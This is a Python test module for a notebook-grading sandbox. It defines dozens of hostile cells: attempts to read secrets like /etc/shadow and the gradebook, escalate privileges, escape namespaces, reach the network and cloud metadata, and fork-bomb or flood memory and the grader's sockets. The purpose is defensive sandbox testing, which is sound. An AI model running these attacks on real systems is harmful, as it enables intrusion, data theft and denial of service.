"""Submissions that attack the sandbox: what each tries, and how it shows that it failed.

Each is one cell. A cell prints ``ESCAPED`` where it got what it wanted, and the
secrets that are planted around it (`plant`) must not be in its output. What
becomes of the kernel is part of the proof, see `Hostile.outcome`.
"""

from __future__ import annotations

import os
import sqlite3
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from nbclient import NotebookClient
from nbclient.exceptions import DeadKernelError

from bordercourse.grading.limits import KernelLimits

LIMITS = KernelLimits(
    cpu_seconds=3,
    cell_cpu_seconds=1,
    wall_seconds=60,
    memory_mb=400,
    processes=40,
    file_mb=4,
    disk_mb=16,
    open_files=128,
    output_mb=1,
)
"""Small limits, so that all but that on wall time can be met in seconds, also on a busy machine."""

SECRET = "kq7-the-key-nobody-may-see"


@dataclass(frozen=True)
class Hostile:
    """One attack.

    Parameters
    ----------
    name, tries : str
    code : str
        The cell. ``@COURSE@``, ``@PORT@`` and ``@PID@`` stand for the course's
        folder, a port on which the grader's machine listens, and the grader.
    outcome : str
        ``held``: the cell ends, without an error, and the next cell runs.
        ``ended``: the cell ends with the error `why`, and the next cell runs.
        ``killed``: the kernel is killed for the reason `why` (any, if empty).
        ``any``: it does not matter; the grader and the neighbours are unharmed.
    why : str
    links : mapping of str to str
        Links planted in the submission's folder, name to target.
    """

    name: str
    tries: str
    code: str
    outcome: str = "held"
    why: str = ""
    links: tuple[tuple[str, str], ...] = ()

    def filled(self, course: Path, port: int, pid: int) -> str:
        return (
            self.code.replace("@COURSE@", str(course)).replace("@PORT@", str(port)).replace("@PID@", str(pid))
        )


def attempt(body: str) -> str:
    """A cell that tries `body`; only an error of the system's or Python's own counts as being held."""
    inner = "\n".join("    " + line for line in body.strip().splitlines())
    return f"try:\n{inner}\n    print('ESCAPED')\nexcept Exception as error:\n    print('held', repr(error))"


# The kernel's own ends of its two lines to the grader.
_LINES = """
kernel = get_ipython().kernel
iopub, shell = kernel.iopub_thread.socket._socket, kernel.shell_stream._socket
"""

HOSTILE: tuple[Hostile, ...] = (
    # ------------------------------------------------------------------ files
    Hostile(
        "read-gradebook", "read the gradebook", attempt("print(open('@COURSE@/gradebook.db', 'rb').read())")
    ),
    Hostile(
        "rewrite-gradebook",
        "give everybody full marks",
        attempt(
            """
import sqlite3
with sqlite3.connect("@COURSE@/gradebook.db") as book:
    book.execute("UPDATE grade SET score = 99")
"""
        ),
    ),
    Hostile(
        "read-source",
        "read the instructor's version",
        attempt("print(open('@COURSE@/source/01-x/01-x.ipynb').read())"),
    ),
    Hostile(
        "read-neighbour",
        "read and change another submission, by ways around the root",
        """
import os
ways = ["@COURSE@", "../../../../../@COURSE@", "/proc/1/root@COURSE@"]
ways += ["/proc/self/cwd/../../@COURSE@", "/proc/1/cwd/.."]
for way in ways:
    for name in ("submitted/ana/01-x/01-x.ipynb", "ana/01-x/01-x.ipynb"):
        try:
            print(open(os.path.join(way, name), "r+").read(), "ESCAPED")
        except OSError as error:
            print("held", error.strerror)
""",
    ),
    Hostile(
        "search-disk",
        "search the whole disk for anything of the course",
        """
import os
found = []
for folder, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("usr", "proc", "site-packages")]
    found += [os.path.join(folder, name) for name in names if name == "secret-of-the-course.txt"]
print("ESCAPED" if found else "held", found)
""",
    ),
    Hostile(
        "follow-link",
        "hand in links to the gradebook and to the course",
        """
import os
for way in ("book", "course/gradebook.db"):
    try:
        print(open(way, "rb").read(), "ESCAPED")
    except OSError as error:
        print("held", error.strerror)
""",
        links=(("book", "@COURSE@/gradebook.db"), ("course", "@COURSE@")),
    ),
    Hostile(
        "write-system",
        "change the Python that the next submission is graded with",
        """
import os, sys, pandas
installed = [os.path.dirname(module.__file__) for module in (pandas, os)]
for path in (*installed, "/usr", "/etc", "/", "/bin", "/dev", "/private"):
    try:
        with open(os.path.join(path, "planted.py"), "w"):
            print("ESCAPED", path)
    except OSError as error:
        print("held", error.strerror)
""",
    ),
    Hostile(
        "make-device",
        "make a device of the machine's disk",
        attempt("import os, stat\nos.mknod('disk', 0o600 | stat.S_IFBLK, os.makedev(254, 0))"),
    ),
    Hostile(
        "read-memory",
        "read memory and disks through device and system files",
        """
import os
devices = ["/dev/mem", "/dev/kmem", "/dev/vda", "/dev/sda", "/dev/kmsg"]
for path in (*devices, "/proc/kcore", "/sys/kernel", "/etc/shadow"):
    try:
        print("ESCAPED", path, os.open(path, os.O_RDONLY))
    except OSError as error:
        print("held", error.strerror)
""",
    ),
    Hostile(
        "write-proc",
        "change the machine's settings",
        """
for path in ("sys/kernel/core_pattern", "sysrq-trigger", "sys/kernel/pid_max", "sys/vm/drop_caches"):
    try:
        with open(f"/proc/{path}", "w") as file:
            file.write("1")
        print("ESCAPED", path)
    except OSError as error:
        print("held", error.strerror)
""",
    ),
    # ------------------------------------------------------------------ secrets of other processes
    Hostile(
        "read-environment",
        "read the grader's environment",
        """
import os
print(dict(os.environ), open('/proc/1/environ').read(), open('/proc/self/environ').read())
""",
    ),
    Hostile(
        "see-processes",
        "see other processes, and signal them",
        """
import os, signal
print("held" if [name for name in os.listdir("/proc") if name.isdigit()] == ["1"] else "ESCAPED")
threads = {int(name) for name in os.listdir("/proc/self/task")}
for pid in {*range(2, 400), @PID@} - threads:
    try:
        os.kill(pid, signal.SIGKILL)
        print("ESCAPED", pid)
    except ProcessLookupError:
        pass
""",
    ),
    Hostile(
        "debug-others",
        "attach to other processes, or to a child from the outside",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if not child:
    import time
    time.sleep(0.5)
    os._exit(0)
print("held" if libc.ptrace(16, child, 0, 0) == -1 and libc.ptrace(16, @PID@, 0, 0) == -1 else "ESCAPED")
os.waitpid(child, 0)
""",
    ),
    Hostile(
        "use-open-files",
        "write to whatever the grader left open",
        """
import os, socket, stat
lines = 0
for number in range(3, 200):
    try:
        kind = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if not kind.startswith(("anon_inode", "pipe", "socket", "/dev/null")):
        print("ESCAPED", kind)
    if kind.startswith("socket"):
        there = socket.socket(fileno=os.dup(number))
        lines += there.type == socket.SOCK_SEQPACKET
        there.close()
print("held" if lines == 2 else "ESCAPED: a line to the warm parent")
""",
    ),
    # ------------------------------------------------------------------ powers
    Hostile(
        "become-root",
        "become root",
        """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for way, what in ((os.setuid, 0), (os.setgid, 0), (os.setgroups, [0]), (os.chroot, "/tmp")):
    try:
        way(what)
        print("ESCAPED")
    except OSError as error:
        print("held", error.strerror)
done = subprocess.run("su -c id; sudo -n id; mount", shell=True, capture_output=True, text=True)
print("ESCAPED" if "uid=0" in done.stdout else "held")
""",
    ),
    Hostile(
        "mount",
        "undo the walls: mount, new namespaces, other namespaces",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
tries = {
    "remount": lambda: libc.mount(b"none", b"/", None, 4096 | 32, None),
    "tmpfs": lambda: libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None),
    "umount": lambda: libc.umount2(b"/proc", 2),
    "user namespace": lambda: libc.unshare(0x10000000),
    "clone": lambda: libc.syscall(56 if os.uname().machine == "x86_64" else 220, 0x10000000 | 17, 0, 0, 0, 0),
    "setns": lambda: libc.setns(os.open("/proc/self/ns/user", os.O_RDONLY), 0),
    "bpf": lambda: libc.syscall(321 if os.uname().machine == "x86_64" else 280, 0, 0, 0),
    "io_uring": lambda: libc.syscall(425, 8, ctypes.create_string_buffer(120)),
    "memfd": lambda: libc.memfd_create(b"x", 0),
}
for name, way in tries.items():
    result = way()
    if result == 0 and name == "clone":
        os._exit(0)
    print("ESCAPED" if result >= 0 else "held", name, os.strerror(ctypes.get_errno()))
""",
    ),
    Hostile(
        "raise-limits",
        "raise the limits on itself",
        """
import resource
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE"):
    kind = getattr(resource, name)
    try:
        _, hard = resource.getrlimit(kind)
        resource.setrlimit(kind, (hard + 1, hard + 1))
        print("ESCAPED", name)
    except (ValueError, OSError) as error:
        print("held", error)
""",
    ),
    # ------------------------------------------------------------------ network
    Hostile(
        "network",
        "send answers out, or reach a service on the grader's machine",
        """
import socket
for address in (("127.0.0.1", @PORT@), ("192.0.2.1", 80), ("8.8.8.8", 53), ("169.254.169.254", 80)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            there = socket.socket(socket.AF_INET, kind)
            there.settimeout(1)
            there.connect(address)
            there.send(b"x")
            print("ESCAPED", address)
        except OSError as error:
            print("held", error)
""",
    ),
    Hostile(
        "local-sockets",
        "reach the grader by an abstract socket, or the machine's host by its own kind of socket",
        """
import socket
for make in (
    lambda: socket.socket(socket.AF_UNIX).connect("\\0bordercourse-@PID@"),
    lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM),
    lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0),
    lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
):
    try:
        make()
        print("ESCAPED")
    except OSError as error:
        print("held", error)
""",
    ),
    # ------------------------------------------------------------------ floods
    Hostile(
        "fork-bomb",
        "fork until the machine stops",
        """
import os, signal
children = []
try:
    for _ in range(2000):
        child = os.fork()
        if not child:
            signal.pause()
        children.append(child)
    print("ESCAPED")
except OSError as error:
    print("held", len(children) <= 40 or "ESCAPED", error)
for child in children:
    os.kill(child, 9)
    os.waitpid(child, 0)
""",
    ),
    Hostile(
        "fork-and-spin",
        "use the machine's processors with many processes",
        """
import os
for _ in range(8):
    if not os.fork():
        while True:
            pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
        "killed",
        "cpu",
    ),
    Hostile(
        "unwaited-children",
        "use the machine's processors by children that nobody waits for",
        """
import os, signal, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    if not os.fork():
        end = time.process_time() + 0.3
        while time.process_time() < end:
            pass
        os._exit(0)
    time.sleep(0.3)
""",
        "killed",
        "cpu",
    ),
    Hostile(
        "thread-bomb",
        "start threads until the machine stops",
        """
import threading
stop = threading.Event()
try:
    for count in range(2000):
        threading.Thread(target=stop.wait, daemon=True).start()
    print("ESCAPED")
except RuntimeError as error:
    print("held", count < 40 or "ESCAPED", error)
stop.set()
""",
    ),
    Hostile(
        "memory",
        "use all memory",
        "data = []\nwhile True:\n    data.append(bytearray(10_000_000))",
        "ended",
        "MemoryError",
    ),
    Hostile(
        "memory-of-many",
        "use all memory in many processes, each below its limit",
        """
import os, time
for _ in range(8):
    if not os.fork():
        data = bytearray(os.urandom(1 << 20)) * 100
        time.sleep(60)
time.sleep(60)
""",
        "killed",
        "memory",
    ),
    Hostile(
        "memory-in-sockets",
        "keep data where no process's memory shows it: in the buffers of sockets, and of sockets in flight",
        """
import os, socket, time
for _ in range(16):
    if not os.fork():
        held = []
        try:
            while True:
                held.append(socket.socketpair())
                held[-1][0].setblocking(False)
                for size in (60_000, 1):
                    try:
                        while True:
                            held[-1][0].send(bytes(size))
                    except BlockingIOError:
                        pass
        except OSError:
            time.sleep(60)
time.sleep(60)
""",
        "killed",
        "memory",
    ),
    Hostile(
        "memory-in-pipes",
        "keep pages where no process's memory shows them: in pipes, after they were let go",
        """
import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
page = mmap.mmap(-1, 4096)
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
part = Part(ctypes.addressof(ctypes.c_char.from_buffer(page)), 4096)
result = libc.vmsplice(os.pipe()[1], ctypes.byref(part), 1, 0)
print("ESCAPED" if result >= 0 else "held", os.strerror(ctypes.get_errno()))
""",
    ),
    Hostile(
        "big-file",
        "fill the disk with one file",
        attempt(
            "with open('big', 'wb') as file:\n    for _ in range(64):\n        file.write(bytes(1 << 20))"
        ),
    ),
    Hostile(
        "many-files",
        "fill the disk with many files, in every place",
        """
import os
total = 0
for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for number in range(40):
            with open(f"{place}/flood-{number}", "wb") as file:
                total += file.write(bytes(1 << 20))
    except OSError as error:
        print("held", error.strerror)
print("ESCAPED" if total > 20 << 20 else "held", total >> 20, "MB")
for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    for number in range(40):
        if os.path.exists(f"{place}/flood-{number}"):
            os.remove(f"{place}/flood-{number}")
""",
    ),
    Hostile(
        "open-files",
        "open files until the machine has none left",
        """
import os
held = []
try:
    while len(held) < 5000:
        held.append(os.open("/dev/null", os.O_RDONLY))
    print("ESCAPED")
except OSError as error:
    reason = error.strerror
for number in held:
    os.close(number)
print("held", reason)
""",
    ),
    Hostile(
        "output",
        "print until the grader's memory is full",
        "for _ in range(200):\n    print('x' * 1_000_000)",
    ),
    Hostile("errors", "write long errors", "raise ValueError('x' * 30_000_000)", "ended", "ValueError"),
    Hostile(
        "messages",
        "flood the grader with messages, past the kernel's own bound",
        """
from IPython import get_ipython
kernel = get_ipython().kernel
from jupyter_client.session import Session
plain = Session(key=kernel.session.key)
text = {"name": "stdout", "text": "x" * 1_000_000}
frames = plain.serialize(plain.msg("stream", text, parent=kernel.get_parent()))
while True:
    try:
        while True:
            kernel.iopub_socket.send_multipart(frames)
    except BaseException:
        pass
""",
        "killed",
        "output",
    ),
    Hostile(
        "one-huge-message",
        "send one message larger than the grader should take",
        """
from IPython import get_ipython
kernel = get_ipython().kernel
for _ in range(3):
    kernel.iopub_socket.send(bytes(60_000_000))
print("held")
""",
        "any",
    ),
    Hostile(
        "nonsense-messages",
        "send messages that are not signed, not JSON, or nested too deep",
        """
from IPython import get_ipython
kernel = get_ipython().kernel
deep = b"[" * 100_000 + b"]" * 100_000
frames = [deep, b"{}", b"{}", b"{}"]
signed = [b"<IDS|MSG>", kernel.session.sign(frames), *frames]
for parts in ([b"x"], [b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"], signed, [b""] * 50):
    kernel.iopub_socket.send_multipart(parts)
print("held")
""",
    ),
    Hostile(
        "endless-message",
        "send one message without an end, on the line itself",
        _LINES
        + """
while True:
    try:
        iopub.send(b"(" + bytes(60_000))
        while True:
            iopub.send(b"+" + bytes(60_000))
    except BaseException:
        pass
""",
        "killed",
        "output",
    ),
    Hostile(
        "unread-line",
        "fill the line on which only replies are awaited, while nobody reads it",
        _LINES
        + """
import threading, time
def fill():
    while True:
        shell.send(b"." + bytes(60_000))
threading.Thread(target=fill, daemon=True).start()
time.sleep(60)
""",
        "killed",
        "output",
    ),
    Hostile(
        "tiny-messages",
        "keep the grader busy with messages as small as they can be",
        _LINES
        + """
while True:
    try:
        while True:
            iopub.send(b".")
    except BaseException:
        pass
""",
        "killed",
        "output",
    ),
    Hostile(
        "closed-lines",
        "close the lines to the grader and go on",
        _LINES + "shell.close()\niopub.close()\nimport time\ntime.sleep(60)",
        "killed",
    ),
    Hostile(
        "garbage",
        "send packets that are no messages, or messages of the wrong lengths",
        _LINES
        + """
import os, struct
lengths = struct.Struct("!4I")
for wrong in (lengths.pack(*[2**32 - 1] * 4), lengths.pack(1, 1, 1, 1), b"", b"abc"):
    iopub.send(b"." + wrong)
for packet in (b"?", b"+lost", b")lost", b"(begun", b"(begun", b"+" + b"x" * 99, b"." + os.urandom(9999)):
    iopub.send(packet)
print("held")
""",
    ),
    # ------------------------------------------------------------------ never ending
    Hostile("endless", "never end", "while True:\n    pass", "ended", "CellTimeoutError"),
    Hostile(
        "endless-swallowing",
        "never end, and swallow every interrupt",
        """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
        "killed",
        "cpu",
    ),
    Hostile(
        "endless-deaf",
        "never end, with every signal blocked",
        """
import signal
for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
while True:
    pass
""",
        "killed",
        "cpu",
    ),
    Hostile(
        "endless-in-c",
        "never end, inside one call",
        "import itertools\nsum(itertools.repeat(1))",
        "killed",
        "cpu",
    ),
    Hostile(
        "sleep",
        "wait for ever",
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    signal.pause()",
        "killed",
        "wall",
    ),
    # ------------------------------------------------------------------ ending what must not end
    Hostile("exit", "end the kernel", "import os\nos._exit(0)", "killed"),
    Hostile("crash", "crash the kernel", "import ctypes\nctypes.string_at(0)", "killed"),
    Hostile(
        "kill-parent",
        "kill the process that started it, and its group",
        """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
os.killpg(0, signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
print('held')
""",
        "any",
    ),
    Hostile(
        "outlive",
        "leave a process behind that outlives the grading",
        """
import ctypes, os, signal, time
if not os.fork():
    os.setsid()
    if not os.fork():
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        ctypes.CDLL(None).prctl(1, 0)
        ctypes.CDLL(None).prctl(15, b"bc-outlive", 0, 0, 0)
        time.sleep(600)
    os._exit(0)
print("held")
""",
    ),
    Hostile(
        "touch-outside",
        "write in its own folder what the grader would later trust",
        """
import os
os.makedirs('@COURSE@'.lstrip('/'), exist_ok=True)
open('answers.json', 'w').write('{}')
open('planted.py', 'w').close()
print('held')
""",
    ),
)


def plant(course: Path) -> None:
    """A course with something to steal, readable by anybody on the machine."""
    for folder in ("source/01-x", "submitted/ana/01-x", "submitted/eve/01-x"):
        (course / folder).mkdir(parents=True)
        (course / folder / "01-x.ipynb").write_text(f'{{"cells": "{SECRET}"}}')
    (course / "secret-of-the-course.txt").write_text(SECRET)
    with sqlite3.connect(course / "gradebook.db") as book:
        book.execute("CREATE TABLE grade (score REAL, note TEXT)")
        book.execute("INSERT INTO grade VALUES (1, ?)", (SECRET,))
    book.close()
    for path in (course, *course.rglob("*")):
        os.chmod(path, 0o777)


@dataclass
class Sat:
    """What came of a few cells: their outputs, what ended the run, how the kernel ended."""

    outputs: list[list[Any]]
    error: BaseException | None
    ended: Any

    def text(self, number: int = 0) -> str:
        """Everything that a cell printed or showed."""
        found = []
        for output in self.outputs[number]:
            found += [
                output.get("text", ""),
                output.get("evalue", ""),
                output.get("data", {}).get("text/plain", ""),
            ]
        return "".join(found)

    def error_name(self, number: int = 0) -> str:
        names = [output["ename"] for output in self.outputs[number] if output["output_type"] == "error"]
        return names[-1] if names else ""


def sit(
    pool: Any, cells: list[str], folder: Path, env: dict[str, str] | None = None, timeout: int = 40
) -> Sat:
    """Run cells in a fresh kernel of the pool."""
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in cells])
    manager = pool.manager(folder, env)
    client = NotebookClient(
        notebook, km=manager, allow_errors=True, timeout=timeout, iopub_timeout=10, interrupt_on_timeout=True
    )
    error: BaseException | None = None
    try:
        client.execute()
    except (DeadKernelError, RuntimeError, OSError) as caught:
        error = caught
    finally:
        ended = manager.ended  # before we end it ourselves
        client._cleanup_kernel()
    return Sat([cell.get("outputs", []) for cell in notebook.cells], error, ended)


__all__ = ["HOSTILE", "LIMITS", "SECRET", "Hostile", "Sat", "plant", "sit"]
